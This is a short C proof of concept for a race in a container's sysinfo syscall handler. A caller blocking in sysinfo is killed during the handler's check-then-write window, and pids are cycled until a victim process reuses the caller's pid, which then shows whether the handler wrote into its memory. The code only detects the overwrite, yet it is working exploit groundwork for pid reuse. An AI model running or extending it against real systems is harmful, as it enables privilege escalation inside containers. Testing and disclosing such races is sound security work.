/* Root inside the container against the sysinfo handler: a caller waits in sysinfo(2) with
 * a pointer into a page at TARGET, is killed and reaped while the handler is between its
 * ID_VALID check and its write, and its pid is cycled round to a victim that has a page of
 * 0xaa at the same address. The victim then says whether the handler wrote into it.
 * stdin paces it (one line per step): go, kill, fork, check. */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define TARGET ((void *)0x5a000000)
#define SIZE 4096

static void step(void)
{
    char line[64];
    if (!fgets(line, sizeof line, stdin))
        _exit(3);
}

static void victim(unsigned char *page)
{
    printf("victim %d\n", getpid());
    fflush(stdout);
    step(); /* check: the handler has answered by now */
    for (int i = 0; i < SIZE; i++)
        if (page[i] != 0xaa) {
            printf("overwritten at %d\n", i);
            fflush(stdout);
            _exit(0);
        }
    puts("intact");
    fflush(stdout);
    _exit(0);
}

int main(void)
{
    unsigned char *page = mmap(TARGET, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (page != TARGET)
        return 2;
    memset(page, 0xaa, SIZE);
    puts("ready");
    fflush(stdout);
    step(); /* go: the handler is watched */
    pid_t caller = fork();
    if (caller == 0) {
        syscall(SYS_sysinfo, TARGET);
        _exit(0);
    }
    printf("caller %d\n", caller);
    fflush(stdout);
    step(); /* kill: the handler is held after ID_VALID */
    kill(caller, SIGKILL);
    waitpid(caller, NULL, 0);
    puts("reaped");
    fflush(stdout);
    step(); /* fork: the pid before the caller's was the last one given (or cycle round) */
    for (int round = 0; round < 1 << 22; round++) { /* until the caller's pid comes round */
        pid_t pid = fork();
        if (pid < 0)
            return 4;
        if (pid == 0) {
            if (getpid() == caller)
                victim(page);
            _exit(0);
        }
        waitpid(pid, NULL, 0);
        if (pid == caller)
            return 0;
    }
    puts("no reuse");
    return 5;
}
